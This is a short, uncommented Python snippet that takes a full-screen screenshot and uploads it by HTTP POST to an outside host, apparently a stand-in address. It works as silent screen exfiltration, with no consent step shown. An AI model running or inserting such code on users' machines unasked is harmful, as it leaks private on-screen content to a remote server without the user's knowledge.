from PIL import ImageGrab
import requests, io
buffer = io.BytesIO()
ImageGrab.grab().save(buffer, "PNG")
requests.post("https://up.example.net", files={"f": buffer.getvalue()})
